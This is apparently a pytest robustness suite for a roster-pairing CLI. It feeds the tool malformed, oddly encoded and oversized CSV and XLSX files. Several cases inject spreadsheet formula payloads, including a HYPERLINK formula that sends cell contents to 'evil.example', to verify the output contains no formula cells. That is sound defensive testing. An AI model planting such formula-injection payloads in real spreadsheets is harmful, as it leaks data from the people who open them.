"""A corpus of bad and strange rosters, each run as `pairctl match ROSTER -o OUT.xlsx`.

Every case ends one of two ways, and nothing in between:

* a correct result: exit 0, the workbook written, everyone on the roster exactly once in the
  Pairs or Unmatched sheet, no formula cell anywhere, plus whatever a coordinator would check
  for that roster (zeros kept, names exactly as typed, ...);
* a clean failure: exit 3, exactly one stderr line naming the file (and the row and column
  where they apply), no traceback, and no output file (nor a temporary one) left behind.

All rosters are generated in `tmp_path`; no binary fixture is committed.
"""

from __future__ import annotations

import codecs
import csv
import io
import random
import re
import zipfile
from collections import Counter
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

import openpyxl
import pytest
from cli_helpers import run

from pairctl.errors import ExitCode

HEADER = [
    "Employee ID",
    "Full name",
    "Specialty",
    "Years of experience",
    "Skills",
    "Wants to learn",
]
SPECIALTIES = ["Engineering", "Sales", "Finance", "Design"]
CONTROL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")


def people(n: int, **override: Callable[[int], str]) -> list[list[str]]:
    """`n` plain people in four specialties; `override[column](i)` replaces one cell."""
    rows = []
    for i in range(n):
        row = {
            "Employee ID": f"E{i + 1:03d}",
            "Full name": f"Person {i + 1}",
            "Specialty": SPECIALTIES[i % 4],
            "Years of experience": str(1 + i % 20),
            "Skills": f"{SPECIALTIES[i % 4]} basics; tool{i % 5}",
            "Wants to learn": f"{SPECIALTIES[(i + 1) % 4]} basics",
        }
        for column, make in override.items():
            row[column.replace("_", " ")] = make(i)
        rows.append([row[h] for h in HEADER])
    return rows


def csv_text(rows: list[list[str]], header: list[str] | None = HEADER, delimiter=",") -> str:
    buf = io.StringIO()
    writer = csv.writer(buf, delimiter=delimiter, lineterminator="\r\n")
    if header is not None:
        writer.writerow(header)
    writer.writerows(rows)
    return buf.getvalue()


def write_xlsx(path: Path, rows: list[list], header: list[str] | None = HEADER, edit=None) -> Path:
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.title = "Roster"
    if header is not None:
        ws.append(header)
    for r in rows:
        ws.append(r)
    if edit is not None:
        edit(ws)
    wb.save(path)
    return path


@dataclass
class Ok:
    """A correct result: these keys (as written in the output) each appear exactly once."""

    roster: Path
    keys: list[str]
    check: Callable[[dict[str, list[dict]]], None] | None = None


@dataclass
class Fail:
    """A clean failure with exit code `code` whose one line contains every needle."""

    roster: Path
    needles: tuple[str, ...] = ()
    code: ExitCode = ExitCode.BAD_ROSTER
    extra: list[str] = field(default_factory=list)


def keys_of(rows: list[list[str]]) -> list[str]:
    return [r[0] for r in rows]


# --- the corpus -------------------------------------------------------------------------------
# Each builder gets a fresh folder and returns what running pairctl on its roster must give.


def empty_xlsx(d: Path):
    (p := d / "roster.xlsx").write_bytes(b"")
    return Fail(p, ("roster.xlsx", "empty"))


def empty_csv(d: Path):
    (p := d / "roster.csv").write_bytes(b"")
    return Fail(p, ("roster.csv", "empty"))


def header_only_csv(d: Path):
    (p := d / "roster.csv").write_text(csv_text([]), encoding="utf-8")
    return Fail(p, ("roster.csv", "0 people"))


def header_only_xlsx(d: Path):
    p = write_xlsx(d / "roster.xlsx", [])
    return Fail(p, ("roster.xlsx", "0 people"))


def one_person(d: Path):
    (p := d / "roster.csv").write_text(csv_text(people(1)), encoding="utf-8")
    return Fail(p, ("roster.csv", "1 person"))


def binary_junk_xlsx(d: Path):
    (p := d / "roster.xlsx").write_bytes(random.Random(1).randbytes(4096))
    return Fail(p, ("roster.xlsx",))


def random_bytes_csv(d: Path):
    (p := d / "roster.csv").write_bytes(random.Random(2).randbytes(4096))
    return Fail(p, ("roster.csv",))


def random_bytes_without_nul_csv(d: Path):
    # No NUL to give it away as binary: it decodes as cp1252 text and must still fail cleanly.
    rng = random.Random(3)
    (p := d / "roster.csv").write_bytes(bytes(rng.randrange(1, 256) for _ in range(4096)))
    return Fail(p, ("roster.csv",))


def zip_not_a_workbook_xlsx(d: Path):
    p = d / "roster.xlsx"
    with zipfile.ZipFile(p, "w") as z:
        z.writestr("hello.txt", "just a zip with a text file in it\n")
    return Fail(p, ("roster.xlsx",))


def truncated_xlsx(d: Path):
    full = write_xlsx(d / "full.xlsx", people(10)).read_bytes()
    (d / "full.xlsx").unlink()
    (p := d / "roster.xlsx").write_bytes(full[: len(full) // 2])
    return Fail(p, ("roster.xlsx",))


def ole_junk_xlsx(d: Path):
    junk = random.Random(4).randbytes(4096)
    (p := d / "roster.xlsx").write_bytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + junk)
    return Fail(p, ("roster.xlsx",))


def ole_encrypted_looking_xlsx(d: Path):
    # What Excel writes for a password-protected .xlsx: an OLE file with an EncryptionInfo stream.
    body = b"\x00" * 512 + "EncryptionInfo".encode("utf-16-le") + b"\x00" * 512
    (p := d / "roster.xlsx").write_bytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + body)
    return Fail(p, ("roster.xlsx", "password"))


def html_named_xls(d: Path):
    (p := d / "roster.xls").write_text("<html><table><tr><td>ID</td></tr></table></html>")
    return Fail(p, ("roster.xls", "web page"))


def workbook_named_csv(d: Path):
    # report.xlsx renamed to report.csv: read as the workbook it is.
    rows = people(6)
    p = write_xlsx(d / "roster.csv", rows)
    return Ok(p, keys_of(rows))


def huge_cell_csv(d: Path):
    # 1 MB in one skills cell (a paste accident) is still valid CSV: read it.
    big = "x" * 1_000_000
    rows = people(6, Skills=lambda i: big if i == 2 else f"skill{i}")
    (p := d / "roster.csv").write_text(csv_text(rows), encoding="utf-8")
    return Ok(p, keys_of(rows))


def huge_cell_xlsx(d: Path):
    big = "teach; " * 150_000  # ~1 MB, far past Excel's own 32,767-character cell limit
    rows = people(6, Skills=lambda i: big if i == 2 else f"skill{i}")
    p = write_xlsx(d / "roster.xlsx", rows)
    return Ok(p, keys_of(rows))


def large_cell_100k_csv(d: Path):
    # 100,000 characters in one cell is still valid CSV and must be read.
    big = "; ".join(f"skill{j}" for j in range(12_000))[:100_000]
    rows = people(6, Skills=lambda i: big if i == 2 else f"skill{i}")
    (p := d / "roster.csv").write_text(csv_text(rows), encoding="utf-8")
    return Ok(p, keys_of(rows))


def multiline_cells_keep_row_numbers(d: Path):
    # Skills typed with Alt+Enter: one spreadsheet row spans several text lines. A bad cell
    # further down must be reported by its spreadsheet row (5), not its text line.
    rows = people(6, Skills=lambda i: "Python\nSQL\nExcel" if i < 3 else "Go")
    rows[3][3] = "many"
    (p := d / "roster.csv").write_text(csv_text(rows), encoding="utf-8")
    return Fail(p, ("roster.csv", "row 5,", "'Years of experience'", "'many'"))


def five_thousand_columns_csv(d: Path):
    extra = [f"Extra {j}" for j in range(5000 - len(HEADER))]
    rows = [[*r, *(str(j) for j in range(len(extra)))] for r in people(6)]
    (p := d / "roster.csv").write_text(csv_text(rows, [*HEADER, *extra]), encoding="utf-8")
    return Ok(p, keys_of(rows))


def five_thousand_columns_xlsx(d: Path):
    extra = [f"Extra {j}" for j in range(5000 - len(HEADER))]
    rows = [[*r, *range(len(extra))] for r in people(4)]
    p = write_xlsx(d / "roster.xlsx", rows, [*HEADER, *extra])
    return Ok(p, keys_of(rows))


def merged_header_cell_over_two_columns(d: Path):
    # 'Full name' merged over its own column and an unnamed one after it.
    header = ["Employee ID", "Full name", None, "Specialty", "Skills"]
    rows = [[f"E{i}", f"First{i}", f"Last{i}", SPECIALTIES[i % 4], f"s{i}"] for i in range(6)]
    p = write_xlsx(d / "roster.xlsx", rows, header, edit=lambda ws: ws.merge_cells("B1:C1"))

    def check(sheets):
        names = {r["A key"]: r["A name"] for r in sheets["Pairs"]}
        names |= {r["B key"]: r["B name"] for r in sheets["Pairs"]}
        assert names["E1"] == "First1"

    return Ok(p, keys_of(rows), check)


def merged_title_over_whole_header(d: Path):
    # The whole header row merged into one cell: only 'Employee ID' survives.
    rows = people(6)
    p = write_xlsx(d / "roster.xlsx", rows, edit=lambda ws: ws.merge_cells("A1:F1"))
    return Fail(p, ("roster.xlsx", "specialty"))


def duplicate_specialty_columns(d: Path):
    header = ["Employee ID", "Full name", "Specialty", "Specialty"]
    rows = [[f"E{i}", f"P{i}", "Sales", "Law"] for i in range(4)]
    (p := d / "roster.csv").write_text(csv_text(rows, header), encoding="utf-8")
    return Fail(p, ("roster.csv", "row 1", "'Specialty'", "C and D"))


def duplicate_keys(d: Path):
    rows = people(6)
    rows[4][0] = rows[1][0]
    (p := d / "roster.csv").write_text(csv_text(rows), encoding="utf-8")
    return Fail(p, ("roster.csv", "'Employee ID'", f"'{rows[1][0]}'", "rows 3 and 6"))


def blank_key_with_data(d: Path):
    rows = people(6)
    rows[3][0] = "   "
    (p := d / "roster.csv").write_text(csv_text(rows), encoding="utf-8")
    return Fail(p, ("roster.csv", "row 5", "'Employee ID'", "blank"))


def non_numeric_experience(d: Path):
    rows = people(6)
    rows[2][3] = "a decade or so"
    (p := d / "roster.csv").write_text(csv_text(rows), encoding="utf-8")
    return Fail(p, ("roster.csv", "row 4", "'Years of experience'", "a decade or so"))


def negative_years(d: Path):
    rows = people(6)
    rows[5][3] = "-3"
    (p := d / "roster.csv").write_text(csv_text(rows), encoding="utf-8")
    return Fail(p, ("roster.csv", "row 7", "'Years of experience'", "negative"))


def negative_years_xlsx_number(d: Path):
    rows: list[list] = people(6)
    rows[0][3] = -2
    p = write_xlsx(d / "roster.xlsx", rows)
    return Fail(p, ("roster.xlsx", "row 2", "'Years of experience'", "negative"))


def mixed_encodings(d: Path):
    # One line typed in UTF-8, another pasted in from a Windows-1252 file.
    rows = people(6)
    text = csv_text(rows).splitlines(keepends=True)
    text[2] = text[2].replace("Person 2", "Zoë Brontë")
    data = b"".join(
        line.encode("cp1252") if i == 4 else line.encode("utf-8") for i, line in enumerate(text)
    )
    data = data.replace(b"Person 4", "Müller".encode("cp1252"))
    (p := d / "roster.csv").write_bytes(data)

    def check(sheets):
        # Both lines read the way they were typed: no 'ZoÃ« BrontÃ«' in the coordinator's sheet.
        assert {"Zoë Brontë", "Müller"} <= names_in(sheets), sorted(names_in(sheets))

    return Ok(p, keys_of(rows), check)


def utf16_with_bom(d: Path):
    rows = people(6, Full_name=lambda i: ["Zoë", "Łukasz", "Søren", "Ōsaka Ren", "Ана", "李雷"][i])
    (p := d / "roster.csv").write_bytes(codecs.BOM_UTF16_LE + csv_text(rows).encode("utf-16-le"))

    def check(sheets):
        assert {"Zoë", "Łukasz", "Søren", "Ōsaka Ren", "Ана", "李雷"} <= names_in(sheets)

    return Ok(p, keys_of(rows), check)


FORMULAS = ["=1+1", '=HYPERLINK("http://evil.example/?x="&A1,"click")', "+SUM(A1:A9)", "@cmd"]


def formulas_in_csv(d: Path):
    rows = people(
        8,
        Full_name=lambda i: FORMULAS[i % 4],
        Skills=lambda i: FORMULAS[(i + 1) % 4] + "; =2*3",
        Wants_to_learn=lambda i: "=2*3",
    )
    (p := d / "roster.csv").write_text(csv_text(rows), encoding="utf-8")

    def check(sheets):
        assert set(FORMULAS) <= names_in(sheets)

    return Ok(p, keys_of(rows), check)


def formulas_in_xlsx_text_cells(d: Path):
    rows = people(8, Full_name=lambda i: FORMULAS[i % 4], Skills=lambda i: "=2*3; =1+1")

    def as_text(ws):
        for row in ws.iter_rows(min_row=2):
            for c in row:
                if isinstance(c.value, str) and c.value.startswith("="):
                    c.data_type = "s"

    p = write_xlsx(d / "roster.xlsx", rows, edit=as_text)

    def check(sheets):
        assert set(FORMULAS) <= names_in(sheets)

    return Ok(p, keys_of(rows), check)


def real_formula_cells_in_xlsx(d: Path):
    # Real formulas (no cached value, as openpyxl writes them) in names and skills.
    rows = people(6, Full_name=lambda i: "=1+1", Skills=lambda i: '=HYPERLINK("http://x","y")')
    p = write_xlsx(d / "roster.xlsx", rows)
    return Ok(p, keys_of(rows))


def every_specialty_blank(d: Path):
    rows = people(8, Specialty=lambda i: "")
    (p := d / "roster.csv").write_text(csv_text(rows), encoding="utf-8")

    def check(sheets):
        assert sheets["Unmatched"] == []  # eight people, four pairs: nobody left out

    return Ok(p, keys_of(rows), check)


def one_specialty_for_everyone(d: Path):
    rows = people(8, Specialty=lambda i: "Engineering")
    (p := d / "roster.csv").write_text(csv_text(rows), encoding="utf-8")

    def check(sheets):
        assert sheets["Unmatched"] == []
        assert len(sheets["Pairs"]) == 4

    return Ok(p, keys_of(rows), check)


def control_characters_in_names(d: Path):
    controls = [chr(c) for c in range(0x20) if chr(c) not in "\t\n\r\x00"]
    rows = people(8, Full_name=lambda i: f"Ann{controls[i]}e{controls[-1 - i]} Smith{i}")
    (p := d / "roster.csv").write_text(csv_text(rows), encoding="utf-8")

    def check(sheets):
        shown = names_in(sheets)
        for i in range(8):
            assert f"Anne Smith{i}" in shown  # the controls dropped, the name still readable

    return Ok(p, keys_of(rows), check)


def nul_in_a_name_csv(d: Path):
    rows = people(6, Full_name=lambda i: "Ann\x00Smith" if i == 1 else f"P{i}")
    (p := d / "roster.csv").write_text(csv_text(rows), encoding="utf-8")
    return Fail(p, ("roster.csv",))


RTL_EMOJI = ["שרה כהן", "محمد علي", "👩🏽‍💻 Priya", "Ömer 🚀", "علي‎ (Ali)", "דוד 🇮🇱", "😀", "Zoë"]


def rtl_and_emoji_names(d: Path):
    rows = people(8, Full_name=lambda i: RTL_EMOJI[i])
    (p := d / "roster.csv").write_text(csv_text(rows), encoding="utf-8")

    def check(sheets):
        shown = {}
        for r in sheets["Pairs"]:
            for side in "ABC":
                if r.get(f"{side} key"):
                    shown[r[f"{side} key"]] = r[f"{side} name"]
        assert shown == {row[0]: row[1] for row in rows}

    return Ok(p, keys_of(rows), check)


def rtl_and_emoji_names_xlsx(d: Path):
    rows = people(
        8, Full_name=lambda i: RTL_EMOJI[i], Specialty=lambda i: ["هندسة", "מכירות"][i % 2]
    )
    p = write_xlsx(d / "roster.xlsx", rows)

    def check(sheets):
        assert set(RTL_EMOJI) <= names_in(sheets)

    return Ok(p, keys_of(rows), check)


BROKEN_AT = 77_777  # the 77,777th person


def hundred_thousand_rows_one_broken(d: Path):
    lines = ["Employee ID,Full name,Specialty,Years of experience"]
    lines += [f"E{i:06d},P{i},{SPECIALTIES[i % 4]},{i % 30}" for i in range(1, 100_001)]
    lines[BROKEN_AT] = f"E{BROKEN_AT:06d},P,Sales,lots"
    (p := d / "roster.csv").write_text("\n".join(lines) + "\n", encoding="utf-8")
    # Header on row 1, so the 77,777th person sits on spreadsheet row 77,778.
    return Fail(p, ("roster.csv", f"row {BROKEN_AT + 1},", "'Years of experience'", "'lots'"))


EXCEL_NAMES = ["José Núñez", "Brown, Mia", "Françoise", "Jürgen", "Œdipe", "€uro Man"]


def excel_semicolon_cp1252_with_title(d: Path):
    rows = people(6, Full_name=lambda i: EXCEL_NAMES[i])
    body = "Mentoring roster Q3 - exported from Excel\r\n" + csv_text(rows, delimiter=";")
    (p := d / "roster.csv").write_bytes(body.encode("cp1252"))

    def check(sheets):
        assert set(EXCEL_NAMES) <= names_in(sheets)

    return Ok(p, keys_of(rows), check)


def header_25_rows_down_xlsx(d: Path):
    rows = people(6)

    def push_down(ws):
        ws.insert_rows(1, 24)
        ws["A1"] = "Mentoring programme"
        ws["A3"] = "Prepared by HR"
        ws["B10"] = "Note: confidential"

    p = write_xlsx(d / "roster.xlsx", rows, edit=push_down)
    return Ok(p, keys_of(rows))


def header_25_rows_down_csv(d: Path):
    rows = people(6)
    title = "".join(f"Title line {i}\r\n" if i % 3 == 0 else "\r\n" for i in range(24))
    (p := d / "roster.csv").write_text(title + csv_text(rows), encoding="utf-8")
    return Ok(p, keys_of(rows))


def header_25_rows_down_bad_cell(d: Path):
    # The header sits on row 25, so the 3rd person is on row 28: the message must say so.
    rows = people(6)
    rows[2][3] = "ages"
    title = "".join("Report\r\n" if i == 0 else "\r\n" for i in range(24))
    (p := d / "roster.csv").write_text(title + csv_text(rows), encoding="utf-8")
    return Fail(p, ("roster.csv", "row 28", "'Years of experience'"))


def trailing_empty_rows_and_columns_csv(d: Path):
    rows = [[*r, "", "", ""] for r in people(6)]
    text = csv_text(rows, [*HEADER, "", "", ""]) + ",,,,,,,,,\r\n" * 40 + "\r\n" * 5
    (p := d / "roster.csv").write_text(text, encoding="utf-8")
    return Ok(p, keys_of(rows))


def trailing_empty_rows_and_columns_xlsx(d: Path):
    rows = people(6)

    def pad(ws):
        for r in range(1, 60):
            ws.cell(row=r, column=30, value="")
        ws.cell(row=200, column=40).value = "   "

    p = write_xlsx(d / "roster.xlsx", rows, edit=pad)
    return Ok(p, keys_of(rows))


def leading_zero_keys_csv(d: Path):
    rows = people(6, Employee_ID=lambda i: f"{i * 7:03d}")  # 000, 007, 014, ...

    def check(sheets):
        seen = {r[f"{s} key"] for r in sheets["Pairs"] for s in "AB"}
        assert "007" in seen and "000" in seen

    return Ok(_csv(d, rows), keys_of(rows), check)


def leading_zero_keys_xlsx_text(d: Path):
    rows = people(6, Employee_ID=lambda i: f"{i * 7:03d}")
    p = write_xlsx(d / "roster.xlsx", rows)

    def check(sheets):
        assert "007" in {r[f"{s} key"] for r in sheets["Pairs"] for s in "AB"}

    return Ok(p, keys_of(rows), check)


def active_maybe(d: Path):
    rows = [[*r, "maybe" if i == 3 else "yes"] for i, r in enumerate(people(6))]
    (p := d / "roster.csv").write_text(csv_text(rows, [*HEADER, "Active"]), encoding="utf-8")
    return Fail(p, ("roster.csv", "row 5", "'Active'", "'maybe'"))


def ragged_row_with_extra_cells(d: Path):
    text = csv_text(people(6)) + "E099,Smith, John,Sales,3,x,y\r\n"
    (p := d / "roster.csv").write_text(text, encoding="utf-8")
    return Fail(p, ("roster.csv", "row 8"))


def workbook_with_empty_sheet(d: Path):
    p = write_xlsx(d / "roster.xlsx", [], header=None)
    return Fail(p, ("roster.xlsx",))


def odd_head_count_in_xlsx_with_numbers(d: Path):
    # Numeric keys and years as numbers; an odd count becomes a trio, nobody lost.
    rows: list[list] = [
        [1000 + i, f"P{i}", SPECIALTIES[i % 4], i + 0.5, "a; b", "c"] for i in range(7)
    ]
    p = write_xlsx(d / "roster.xlsx", rows)
    return Ok(p, [str(r[0]) for r in rows])


def _csv(d: Path, rows: list[list[str]]) -> Path:
    (p := d / "roster.csv").write_text(csv_text(rows), encoding="utf-8")
    return p


BUGS: dict[str, str] = {}
"""Case id -> one-line description of a real bug the case shows (the test is xfail strict)."""

CASES = [
    empty_xlsx,
    empty_csv,
    header_only_csv,
    header_only_xlsx,
    one_person,
    binary_junk_xlsx,
    random_bytes_csv,
    random_bytes_without_nul_csv,
    zip_not_a_workbook_xlsx,
    truncated_xlsx,
    ole_junk_xlsx,
    ole_encrypted_looking_xlsx,
    html_named_xls,
    workbook_named_csv,
    huge_cell_csv,
    huge_cell_xlsx,
    large_cell_100k_csv,
    multiline_cells_keep_row_numbers,
    five_thousand_columns_csv,
    five_thousand_columns_xlsx,
    merged_header_cell_over_two_columns,
    merged_title_over_whole_header,
    duplicate_specialty_columns,
    duplicate_keys,
    blank_key_with_data,
    non_numeric_experience,
    negative_years,
    negative_years_xlsx_number,
    mixed_encodings,
    utf16_with_bom,
    formulas_in_csv,
    formulas_in_xlsx_text_cells,
    real_formula_cells_in_xlsx,
    every_specialty_blank,
    one_specialty_for_everyone,
    control_characters_in_names,
    nul_in_a_name_csv,
    rtl_and_emoji_names,
    rtl_and_emoji_names_xlsx,
    hundred_thousand_rows_one_broken,
    excel_semicolon_cp1252_with_title,
    header_25_rows_down_xlsx,
    header_25_rows_down_csv,
    header_25_rows_down_bad_cell,
    trailing_empty_rows_and_columns_csv,
    trailing_empty_rows_and_columns_xlsx,
    leading_zero_keys_csv,
    leading_zero_keys_xlsx_text,
    active_maybe,
    ragged_row_with_extra_cells,
    workbook_with_empty_sheet,
    odd_head_count_in_xlsx_with_numbers,
]


def _params():
    for build in CASES:
        name = build.__name__
        marks = [pytest.mark.xfail(strict=True, reason=BUGS[name])] if name in BUGS else []
        yield pytest.param(build, id=name, marks=marks)


# --- reading the result back ------------------------------------------------------------------


def read_sheets(path: Path) -> tuple[dict[str, list[dict]], list[str]]:
    """Pairs and Unmatched as lists of {header: text}, and every formula cell's address."""
    wb = openpyxl.load_workbook(path)
    formulas = [
        f"{ws.title}!{c.coordinate}"
        for ws in wb.worksheets
        for row in ws.iter_rows()
        for c in row
        if c.data_type == "f"
    ]
    sheets: dict[str, list[dict]] = {}
    for name in ("Pairs", "Unmatched"):
        rows = list(wb[name].iter_rows(values_only=True))
        header = rows[0]
        sheets[name] = [
            {h: ("" if v is None else str(v)) for h, v in zip(header, r, strict=False)}
            for r in rows[1:]
            if any(v is not None for v in r)
        ]
    return sheets, formulas


def names_in(sheets: dict[str, list[dict]]) -> set[str]:
    shown = {r[f"{s} name"] for r in sheets["Pairs"] for s in "ABC" if r.get(f"{s} name")}
    return shown | {r["Name"] for r in sheets["Unmatched"]}


def everyone_listed(sheets: dict[str, list[dict]]) -> Counter[str]:
    listed: Counter[str] = Counter()
    for r in sheets["Pairs"]:
        listed.update(r[f"{s} key"] for s in "ABC" if r.get(f"{s} key"))
    listed.update(r["Key"] for r in sheets["Unmatched"])
    return listed


# --- the test ---------------------------------------------------------------------------------


@pytest.mark.parametrize("build", list(_params()))
def test_hostile_roster_gives_a_correct_result_or_a_clean_failure(tmp_path, build):
    given = tmp_path / "in"
    given.mkdir()
    out_dir = tmp_path / "out"
    out_dir.mkdir()
    out = out_dir / "OUT.xlsx"
    expect = build(given)
    inputs = sorted(p.name for p in given.iterdir())

    result = run("match", str(expect.roster), "-o", str(out))

    assert "Traceback" not in result.stderr, result.stderr
    assert "internal error" not in result.stderr, result.stderr
    # Whatever happened, the input folder is untouched (no stray pairs-*.xlsx or temp file).
    assert sorted(p.name for p in given.iterdir()) == inputs
    if isinstance(expect, Fail):
        assert result.exit_code == expect.code, (result.exit_code, result.stdout, result.stderr)
        lines = result.stderr.strip().splitlines()
        assert len(lines) == 1, result.stderr
        assert lines[0].startswith("pairctl: error:"), lines[0]
        for needle in expect.needles:
            assert needle in lines[0], (needle, lines[0])
        assert list(out_dir.iterdir()) == [], "a failed run left a file behind"
        return

    assert result.exit_code == 0, (result.exit_code, result.stderr[-2000:])
    assert list(out_dir.iterdir()) == [out], "only the output, no temporary file"
    sheets, formulas = read_sheets(out)
    assert formulas == [], f"formula cells in the output: {formulas[:5]}"
    listed = everyone_listed(sheets)
    wanted = Counter(CONTROL.sub("", k) for k in expect.keys)
    assert listed == wanted, {
        "missing": sorted((wanted - listed).elements())[:10],
        "extra or twice": sorted((listed - wanted).elements())[:10],
    }
    for r in sheets["Pairs"]:
        for value in r.values():
            assert not CONTROL.search(value), repr(value)
    if expect.check is not None:
        expect.check(sheets)


def test_the_corpus_is_big_enough():
    assert len(CASES) >= 30
    assert len({c.__name__ for c in CASES}) == len(CASES)
